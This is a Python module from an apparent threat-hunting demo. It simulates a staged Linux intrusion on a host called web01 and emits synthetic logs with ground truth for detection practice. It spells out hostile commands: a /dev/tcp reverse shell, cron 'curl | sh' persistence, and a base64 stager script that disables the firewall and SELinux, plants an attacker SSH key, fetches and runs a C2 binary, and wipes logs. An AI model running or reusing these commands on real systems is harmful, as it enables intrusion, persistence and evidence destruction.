"""The compromise of web01 on day 3, step by step, with its ground truth.

Password guessing from a Tor exit ends in a logon as ``deploy``; sudo to a root
shell; a backdoor account in the sudo group; cron persistence fetching a script;
a dropped binary; a reverse shell; an SSH key; a base64 stager; history wiped.
Every process is audited with consistent ancestry so a process tree can be built.
"""

from __future__ import annotations

import base64
import hashlib
import random
from collections.abc import Generator
from dataclasses import dataclass, field
from datetime import UTC, datetime

from hunting.demo.audit import UNSET, Cred
from hunting.demo.host import Host, Sim
from hunting.demo.sessions import Exec, Logon, cron_run, sh_c, ssh_logoff, ssh_logon, sudo_close, sudo_open
from hunting.demo.world import DAY, END, INVALID_USERS

BRUTE_IP = "185.220.101.47"
C2_IP = "45.95.147.236"
DOMAIN = "linux-kworker-sync.top"
CRON_HOST = f"update-check.{DOMAIN}"
DOWNLOAD_URL = f"http://{DOMAIN}/x"
CRON_URL = f"http://{CRON_HOST}/u.sh"
CRON_COMMAND = f"curl -fsSL {CRON_URL} | sh"
CRON_LINE = f"*/10 * * * * {CRON_COMMAND}"
TOOL_DIR = "/tmp/.x"  # noqa: S108 (a path in the story, never opened here)
TOOL_PATH = f"{TOOL_DIR}/kworkerd"
REVERSE_PORT = 4444
REVERSE_COMMAND = f"bash -i >& /dev/tcp/{C2_IP}/{REVERSE_PORT} 0>&1"
NEW_USER = "backup2"
COMPROMISED_USER = "deploy"
ATTACKER_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOv1kX7m0cQ3yR2pWz9sTt4hJ8bN6fLd5eA1uG3iK0oP root@vps-2231"
)
DAY3 = END - 18 * 3600 - 0 * DAY  # 2026-03-12T00:00:00Z


def tool_sha256(seed: int) -> str:
    """The dropped binary is not shipped; its hash is fixed per seed for the TI feed and alerts."""
    return hashlib.sha256(f"kworkerd-demo-payload:{seed}".encode()).hexdigest()


def stager_script() -> str:
    """What the base64 blob decodes to: a typical cryptojacker/backdoor init script."""
    competitors = [
        "xmrig", "kdevtmpfsi", "kinsing", "sysupdate", "networkservice", "sysguard", "phpguard", "dbused",
        "kthreaddi", "solrd", "zzh", "xmr-stak", "minerd", "cpuminer", "ddgs", "qW3xT", "t00ls", "watchbog",
        "kerberods", "khugepageds", "bioset0", "kworkerds", "ksoftirqds", "pnscan", "masscan", "tsm64",
    ]  # fmt: skip
    lines = [
        "#!/bin/bash",
        "export HISTFILE=/dev/null; unset HISTFILE; history -c",
        "ulimit -n 65535",
        "setenforce 0 2>/dev/null; echo SELINUX=disabled > /etc/selinux/config 2>/dev/null",
        "ufw disable 2>/dev/null; iptables -F; iptables -X",
        "systemctl stop apparmor 2>/dev/null; systemctl disable apparmor 2>/dev/null",
        "echo 0 > /proc/sys/kernel/nmi_watchdog; sysctl -w vm.nr_hugepages=1280",
    ]
    for name in competitors:
        lines.append(f"pkill -9 -f {name} 2>/dev/null; rm -rf /tmp/.{name} /var/tmp/.{name} /dev/shm/.{name}")
        lines.append(f"crontab -l 2>/dev/null | grep -v {name} | crontab - 2>/dev/null")
    lines += [
        "mkdir -p /root/.ssh; chmod 700 /root/.ssh",
        f"echo {ATTACKER_KEY} >> /root/.ssh/authorized_keys",
        "chmod 600 /root/.ssh/authorized_keys; chattr +ia /root/.ssh/authorized_keys 2>/dev/null",
        f"if [ ! -x {TOOL_PATH} ]; then mkdir -p {TOOL_DIR}; curl -fsSL {DOWNLOAD_URL} -o {TOOL_PATH} || "
        f"wget -q {DOWNLOAD_URL} -O {TOOL_PATH}; chmod +x {TOOL_PATH}; fi",
        f"pgrep -f kworkerd >/dev/null || nohup {TOOL_PATH} -c {C2_IP}:443 >/dev/null 2>&1 &",
        f"(crontab -l 2>/dev/null | grep -q update-check) || (crontab -l 2>/dev/null; echo '{CRON_LINE}') | crontab -",
        "rm -f /var/log/wtmp /var/log/btmp; touch /var/log/wtmp /var/log/btmp",
        "rm -f ~/.bash_history; history -c",
    ]
    # Real droppers pad their kill lists; the decoded text is the same either way.
    body = "\n".join(lines) + "\n"
    while len(body) < 6000:
        body += "# " + "-" * 70 + "\n"
    return body


def stager_b64() -> str:
    return base64.b64encode(stager_script().encode()).decode()


def iso(ts: float) -> str:
    return datetime.fromtimestamp(ts, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


@dataclass
class Truth:
    """What happened, filled in as the story runs."""

    steps: dict[str, str] = field(default_factory=dict)
    pids: dict[str, int] = field(default_factory=dict)
    brute_force_attempts: int = 0
    malicious_cron_runs: int = 0
    logon_session: int = 0


def _run(host: Host, ts: float, ppid: int, cred: Cred, cwd: str, ex: Exec, *, pid: int | None = None) -> int:
    pid = pid if pid is not None else host.pids.alloc(ts)
    ex.run(host, ts, pid, ppid, cred, cwd)
    return pid


def brute_force(sim: Sim, host: Host, rng: random.Random, truth: Truth) -> Generator[float, None, None]:
    """Hydra-style guessing: invalid users, then root (6 tries a connection), then deploy."""
    truth.steps["brute_force_start"] = iso(sim.now)
    listener = host.daemons["sshd"]
    pre = Cred(UNSET, 0, 0, UNSET)
    a = host.audit
    plan = ["invalid"] * 18 + ["root"] * 9 + ["deploy"] * 2
    rng.shuffle(plan)
    for kind in plan:
        ts = sim.now
        port = rng.randrange(32768, 60999)
        pid = _run(host, ts, listener, pre, "/", Exec(("/usr/sbin/sshd", "-D", "-R"), "/usr/sbin/sshd"))
        host.pids.alloc(ts + 0.01)
        t = ts + 0.8
        if kind == "invalid":
            user = INVALID_USERS[rng.randrange(len(INVALID_USERS))]
            host.log(t, "auth", "info", "sshd", pid, f"Invalid user {user} from {BRUTE_IP} port {port}")
            host.log(
                t + 0.1, "authpriv", "notice", "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown"
            )
            host.log(t + 0.1, "authpriv", "notice", "sshd", pid,
                     f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={BRUTE_IP}")  # fmt: skip
            if a is not None:
                a.pam(t + 2.1, "USER_AUTH", pid, UNSET, UNSET, "authentication", "?", "?", "/usr/sbin/sshd",
                      hostname=BRUTE_IP, addr=BRUTE_IP, terminal="ssh", res="failed")  # fmt: skip
            host.log(t + 2.1, "auth", "info", "sshd", pid,
                     f"Failed password for invalid user {user} from {BRUTE_IP} port {port} ssh2")  # fmt: skip
            host.log(t + 2.3, "auth", "info", "sshd", pid,
                     f"Connection closed by invalid user {user} {BRUTE_IP} port {port} [preauth]")  # fmt: skip
            truth.brute_force_attempts += 1
        else:
            user = kind
            tries = 6 if kind == "root" else 3
            host.log(t, "authpriv", "notice", "sshd", pid,
                     f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                     f"rhost={BRUTE_IP}  user={user}")  # fmt: skip
            failed = f"Failed password for {user} from {BRUTE_IP} port {port} ssh2"
            for i in range(tries):
                if a is not None:
                    a.pam(t + 2 + i * 2.2, "USER_AUTH", pid, UNSET, UNSET, "authentication", "?", user,
                          "/usr/sbin/sshd", hostname=BRUTE_IP, addr=BRUTE_IP, terminal="ssh", res="failed")  # fmt: skip
            host.log(t + 2, "auth", "info", "sshd", pid, failed)
            end = t + 2 + (tries - 1) * 2.2
            # rsyslog's $RepeatedMsgReduction folds the identical lines that follow.
            host.log(end, "auth", "info", "sshd", pid, f"message repeated {tries - 1} times: [ {failed}]")
            truth.brute_force_attempts += tries
            if kind == "root":
                host.log(end, "auth", "err", "sshd", pid,
                         f"error: maximum authentication attempts exceeded for root from {BRUTE_IP} port {port} ssh2 [preauth]")  # fmt: skip
                host.log(end, "auth", "info", "sshd", pid,
                         f"Disconnecting authenticating user root {BRUTE_IP} port {port}: Too many authentication failures [preauth]")  # fmt: skip
                host.log(end, "authpriv", "notice", "sshd", pid,
                         f"PAM {tries - 1} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
                         f"rhost={BRUTE_IP}  user=root")  # fmt: skip
                host.log(
                    end,
                    "authpriv",
                    "notice",
                    "sshd",
                    pid,
                    f"PAM service(sshd) ignoring max retries; {tries} > 3",
                )
            else:
                host.log(end + 0.2, "auth", "info", "sshd", pid,
                         f"Connection closed by authenticating user {user} {BRUTE_IP} port {port} [preauth]")  # fmt: skip
        yield sim.now + 40 + rng.random() * 70
    truth.steps["brute_force_end"] = iso(sim.now)


def takeover(
    sim: Sim, host: Host, rng: random.Random, truth: Truth, seed: int
) -> Generator[float, None, None]:
    """From the accepted password to logout; every step stamped in ``truth``."""
    yield from brute_force(sim, host, rng, truth)
    port = rng.randrange(32768, 60999)
    s = ssh_logon(sim, host, COMPROMISED_USER, BRUTE_IP, port, "password", "pts1")
    truth.steps["logon"] = iso(sim.now + 0.4)
    truth.logon_session = s.ses
    truth.pids.update(
        sshd_listener=host.daemons["sshd"], sshd_session=s.monitor, sshd_user=s.child, user_shell=s.shell
    )
    home = f"/home/{COMPROMISED_USER}"
    yield sim.now + 35
    for argv in (("id",), ("uname", "-a"), ("cat", "/etc/passwd"), ("sudo", "-l")):
        if argv[0] == "sudo":
            _run(host, sim.now, s.shell, Cred(s.cred.auid, s.cred.uid, s.cred.gid, s.ses, s.tty, euid=0), home,
                 Exec(argv, "/usr/bin/sudo"))  # fmt: skip
        else:
            _run(host, sim.now, s.shell, s.cred, home, Exec(argv, f"/usr/bin/{argv[0]}"))
        yield sim.now + 6 + rng.random() * 10
    # sudo -s: the shell from passwd, logged as COMMAND=/bin/bash
    ts = sim.now
    sudo_pid = sudo_open(host, ts, s, s.shell, home, ("-s",), "/bin/bash", password=True)
    root = Cred(s.cred.auid, 0, 0, s.ses, s.tty)
    root_shell = _run(
        host, ts + 2.6, sudo_pid, root, home, Exec(("/bin/bash",), "/usr/bin/bash", "/bin/bash")
    )
    truth.steps["sudo_root_shell"] = iso(ts + 2.5)
    truth.pids.update(sudo=sudo_pid, root_shell=root_shell)
    yield sim.now + 50
    yield from _backdoor_account(sim, host, truth, root, root_shell, home)
    yield sim.now + 40
    yield from _crontab(sim, host, truth, root, root_shell)
    yield sim.now + 70
    # download, chmod, run the tool
    ts = sim.now
    _run(host, ts, root_shell, root, home, Exec(("mkdir", "-p", TOOL_DIR), "/usr/bin/mkdir"))
    wget = _run(host, ts + 9, root_shell, root, home,
                Exec(("wget", DOWNLOAD_URL, "-O", TOOL_PATH), "/usr/bin/wget"))  # fmt: skip
    truth.steps["download"] = iso(ts + 9)
    chmod = _run(host, ts + 21, root_shell, root, home, Exec(("chmod", "+x", TOOL_PATH), "/usr/bin/chmod"))
    truth.steps["chmod"] = iso(ts + 21)
    tool = _run(host, ts + 34, root_shell, root, home,
                Exec(("nohup", TOOL_PATH, "-c", f"{C2_IP}:443"), "/usr/bin/nohup"))  # fmt: skip
    # nohup replaces itself with the program: same pid, second execve
    _run(host, ts + 34.002, root_shell, root, home,
         Exec((TOOL_PATH, "-c", f"{C2_IP}:443"), TOOL_PATH, static=True), pid=tool)  # fmt: skip
    truth.steps["tool_executed"] = iso(ts + 34.002)
    truth.pids.update(wget=wget, chmod=chmod, dropped_tool=tool)
    yield sim.now + 160
    # reverse shell, then the attacker works through it
    ts = sim.now
    rev = _run(
        host,
        ts,
        root_shell,
        root,
        home,
        Exec(("bash", "-c", REVERSE_COMMAND), "/usr/bin/bash", "/usr/bin/bash"),
    )
    rev_i = _run(host, ts + 0.004, rev, root, home, Exec(("bash", "-i"), "/usr/bin/bash", "/usr/bin/bash"))
    truth.steps["reverse_shell"] = iso(ts)
    truth.pids.update(reverse_shell=rev, reverse_shell_interactive=rev_i)
    yield sim.now + 150
    ts = sim.now
    _run(host, ts, rev_i, root, "/root", Exec(("mkdir", "-p", "/root/.ssh"), "/usr/bin/mkdir"))
    if (
        host.audit is not None
    ):  # `echo KEY >> /root/.ssh/authorized_keys` is a builtin: only the watch sees it
        host.audit.file_write(ts + 4.1, rev_i, rev, root, "bash", "/usr/bin/bash", "/root/.ssh/authorized_keys",
                              "ssh_keys")  # fmt: skip
    _run(
        host,
        ts + 7,
        rev_i,
        root,
        "/root",
        Exec(("chmod", "600", "/root/.ssh/authorized_keys"), "/usr/bin/chmod"),
    )
    truth.steps["ssh_key_added"] = iso(ts + 4.1)
    yield sim.now + 130
    # a pasted one-liner: nohup bash -c 'echo <b64>|base64 -d|bash'
    ts = sim.now
    blob = f"echo {stager_b64()}|base64 -d|bash"
    stager = _run(host, ts, root_shell, root, home, Exec(("nohup", "bash", "-c", blob), "/usr/bin/nohup"))
    _run(host, ts + 0.002, root_shell, root, home, Exec(("bash", "-c", blob), "/usr/bin/bash", "/usr/bin/bash"),
         pid=stager)  # fmt: skip
    b64 = _run(host, ts + 0.004, stager, root, home, Exec(("base64", "-d"), "/usr/bin/base64"))
    inner = _run(host, ts + 0.005, stager, root, home, Exec(("bash",), "/usr/bin/bash", "/usr/bin/bash"))
    t = ts + 0.02
    for cmd in (("ufw", "disable"), ("iptables", "-F"), ("iptables", "-X"), ("pkill", "-9", "-f", "xmrig"),
                 ("pkill", "-9", "-f", "kinsing"), ("chattr", "+ia", "/root/.ssh/authorized_keys"),
                 ("pgrep", "-f", "kworkerd"), ("rm", "-f", "/var/log/wtmp", "/var/log/btmp")):  # fmt: skip
        exe = (
            "/usr/bin/python3"
            if cmd[0] == "ufw"
            else f"/usr/sbin/{cmd[0]}"
            if cmd[0] == "iptables"
            else f"/usr/bin/{cmd[0]}"
        )
        path = "/usr/sbin/ufw" if cmd[0] == "ufw" else exe
        _run(host, t, inner, root, home, Exec(cmd, exe, path))
        t += 0.05 + rng.random() * 0.2
    truth.steps["base64_stager"] = iso(ts)
    truth.pids.update(stager=stager, stager_base64=b64, stager_bash=inner)
    yield sim.now + 140
    ts = sim.now
    rm1 = _run(host, ts, root_shell, root, home, Exec(("rm", "-f", "/root/.bash_history"), "/usr/bin/rm"))
    _run(host, ts + 5, root_shell, root, home, Exec(("rm", "-f", f"{home}/.bash_history"), "/usr/bin/rm"))
    _run(
        host,
        ts + 9,
        root_shell,
        root,
        home,
        Exec(("ln", "-sf", "/dev/null", "/root/.bash_history"), "/usr/bin/ln"),
    )
    truth.steps["history_cleared"] = iso(ts)
    truth.pids["history_rm"] = rm1
    yield sim.now + 30
    sudo_close(host, sim.now, s, sudo_pid)
    yield sim.now + 12
    ssh_logoff(sim, host, s)
    truth.steps["logoff"] = iso(sim.now)


def _backdoor_account(
    sim: Sim, host: Host, truth: Truth, root: Cred, shell: int, cwd: str
) -> Generator[float, None, None]:
    """adduser -> groupadd + useradd; usermod -aG sudo; chpasswd. As Ubuntu 22.04 logs them."""
    ts = sim.now
    a = host.audit
    term = root.tty.replace("pts", "pts/")
    adduser = _run(host, ts, shell, root, cwd,
                   Exec(("/usr/bin/perl", "/usr/sbin/adduser", "--disabled-password", "--gecos", "", NEW_USER),
                        "/usr/bin/perl", "/usr/sbin/adduser"))  # fmt: skip
    gadd = _run(host, ts + 0.21, adduser, root, cwd,
                Exec(("/sbin/groupadd", "-g", "1002", NEW_USER), "/usr/sbin/groupadd", "/sbin/groupadd"))  # fmt: skip
    host.log(
        ts + 0.22, "auth", "info", "groupadd", gadd, f"group added to /etc/group: name={NEW_USER}, GID=1002"
    )
    host.log(ts + 0.22, "auth", "info", "groupadd", gadd, f"group added to /etc/gshadow: name={NEW_USER}")
    host.log(ts + 0.22, "auth", "info", "groupadd", gadd, f"new group: name={NEW_USER}, GID=1002")
    uadd = _run(host, ts + 0.26, adduser, root, cwd,
                Exec(("/sbin/useradd", "-d", f"/home/{NEW_USER}", "-g", NEW_USER, "-s", "/bin/bash", "-u", "1002",
                      NEW_USER), "/usr/sbin/useradd", "/sbin/useradd"))  # fmt: skip
    host.log(ts + 0.27, "auth", "info", "useradd", uadd,
             f"new user: name={NEW_USER}, UID=1002, GID=1002, home=/home/{NEW_USER}, shell=/bin/bash, from=/dev/{term}")  # fmt: skip
    if a is not None:
        a.user_msg(ts + 0.22, "ADD_GROUP", gadd, 0, root.auid, root.ses,
                   f'op=add-group id=1002 exe="/usr/sbin/groupadd" hostname=web01 addr=? terminal={term} res=success')  # fmt: skip
        a.user_msg(ts + 0.22, "GRP_MGMT", gadd, 0, root.auid, root.ses,
                   f'op=add-shadow-group id=1002 exe="/usr/sbin/groupadd" hostname=web01 addr=? terminal={term} res=success')  # fmt: skip
        a.user_msg(ts + 0.27, "ADD_USER", uadd, 0, root.auid, root.ses,
                   f'op=add-user id=1002 exe="/usr/sbin/useradd" hostname=web01 addr=? terminal={term} res=success')  # fmt: skip
        a.user_msg(ts + 0.28, "USER_MGMT", uadd, 0, root.auid, root.ses,
                   f'op=add-home-dir id=1002 exe="/usr/sbin/useradd" hostname=web01 addr=? terminal={term} res=success')  # fmt: skip
    truth.steps["user_created"] = iso(ts + 0.27)
    truth.pids.update(useradd=uadd, groupadd=gadd)
    yield ts + 21
    ts = sim.now
    umod = _run(host, ts, shell, root, cwd, Exec(("usermod", "-aG", "sudo", NEW_USER), "/usr/sbin/usermod"))
    host.log(ts + 0.01, "auth", "info", "usermod", umod, f"add '{NEW_USER}' to group 'sudo'")
    host.log(ts + 0.01, "auth", "info", "usermod", umod, f"add '{NEW_USER}' to shadow group 'sudo'")
    if a is not None:
        a.user_msg(ts + 0.01, "USER_MGMT", umod, 0, root.auid, root.ses,
                   f'op=add-user-to-group grp="sudo" acct="{NEW_USER}" exe="/usr/sbin/usermod" hostname=web01 '
                   f"addr=? terminal={term} res=success")  # fmt: skip
    truth.steps["added_to_sudo"] = iso(ts + 0.01)
    truth.pids["usermod"] = umod
    yield ts + 14
    ts = sim.now
    chp = _run(host, ts, shell, root, cwd, Exec(("chpasswd",), "/usr/sbin/chpasswd"))
    host.log(
        ts + 0.08,
        "authpriv",
        "notice",
        "chpasswd",
        chp,
        f"pam_unix(chpasswd:chauthtok): password changed for {NEW_USER}",
    )
    if a is not None:
        a.user_msg(ts + 0.08, "USER_CHAUTHTOK", chp, 0, root.auid, root.ses,
                   f'op=PAM:chauthtok grantors=pam_pwquality,pam_permit,pam_unix acct="{NEW_USER}" '
                   f'exe="/usr/sbin/chpasswd" hostname=web01 addr=? terminal={term} res=success')  # fmt: skip
    truth.steps["password_set"] = iso(ts + 0.08)
    truth.pids["chpasswd"] = chp


def _crontab(sim: Sim, host: Host, truth: Truth, root: Cred, shell: int) -> Generator[float, None, None]:
    """crontab -e as root; cron notices the change at the next minute."""
    ts = sim.now
    ct = _run(host, ts, shell, root, "/root", Exec(("crontab", "-e"), "/usr/bin/crontab"))
    host.log(ts + 0.01, "cron", "info", "crontab", ct, "(root) BEGIN EDIT (root)")
    tmp = "/tmp/crontab.K2x9Qv/crontab"  # noqa: S108
    ed_sh = _run(host, ts + 0.02, ct, root, "/root", sh_c(f"/usr/bin/sensible-editor {tmp}"))
    _run(host, ts + 0.05, ed_sh, root, "/root", Exec(("/bin/nano", tmp), "/usr/bin/nano", "/bin/nano"))
    yield ts + 38
    ts = sim.now
    host.log(ts, "cron", "info", "crontab", ct, "(root) REPLACE (root)")
    host.log(ts, "cron", "info", "crontab", ct, "(root) END EDIT (root)")
    truth.steps["crontab_replaced"] = iso(ts)
    truth.pids["crontab"] = ct
    reload_at = (int(ts // 60) + 1) * 60 + 0.02
    host.log(reload_at, "cron", "info", "cron", host.daemons["cron"], "(root) RELOAD (crontabs/root)")


def malicious_cron(sim: Sim, host: Host, truth: Truth, first: float) -> None:
    """*/10 runs of the implanted job from the first due minute to the end."""
    t = (int(first // 600) + 1) * 600
    while t < END:
        sim.spawn(t + 0.05, _cron_one(sim, host, truth))
        t += 600


def _cron_one(sim: Sim, host: Host, truth: Truth) -> Generator[float, None, None]:
    start = sim.now
    children = (
        Exec(("curl", "-fsSL", CRON_URL), "/usr/bin/curl"),
        Exec(("sh",), "/usr/bin/dash", "/bin/sh"),
    )
    pids = yield from cron_run(sim, host, "root", CRON_COMMAND, children, 1.4)
    truth.malicious_cron_runs += 1
    if "malicious_cron_first" not in truth.steps:
        truth.steps["malicious_cron_first"] = iso(start)
        truth.pids.update(cron_daemon=pids["cron"], cron_child=pids["cron_child"], cron_sh=pids["sh"],
                          cron_curl=pids["child0"], cron_pipe_sh=pids["child1"])  # fmt: skip


def backdoor_logon(sim: Sim, host: Host, truth: Truth) -> Generator[float, None, None]:
    """Hours later the new account is used from the C2 address."""
    port = 51822
    s: Logon = ssh_logon(sim, host, NEW_USER, C2_IP, port, "password", "pts2")
    truth.steps["backdoor_logon"] = iso(sim.now + 0.4)
    _run(host, sim.now + 8, s.shell, s.cred, f"/home/{NEW_USER}", Exec(("id",), "/usr/bin/id"))
    yield sim.now + 95
    ssh_logoff(sim, host, s)


def schedule_intrusion(sim: Sim, host: Host, seed: int) -> Truth:
    truth = Truth()
    rng = random.Random(f"{seed}:intrusion")
    start = DAY3 + 2 * 3600 + 51 * 60 + 7.25  # 02:51:07 UTC
    sim.spawn(start, takeover(sim, host, rng, truth, seed))
    # The crontab edit lands about 55 minutes after the first guess; cron runs it from then on.
    sim.spawn(start, _arm_cron(sim, host, truth))
    sim.spawn(DAY3 + 11 * 3600 + 20 * 60 + 44.5, backdoor_logon(sim, host, truth))
    return truth


def _arm_cron(sim: Sim, host: Host, truth: Truth) -> Generator[float, None, None]:
    while "crontab_replaced" not in truth.steps:
        yield sim.now + 30
    replaced = datetime.fromisoformat(truth.steps["crontab_replaced"].replace("Z", "+00:00")).timestamp()
    malicious_cron(sim, host, truth, replaced + 60)
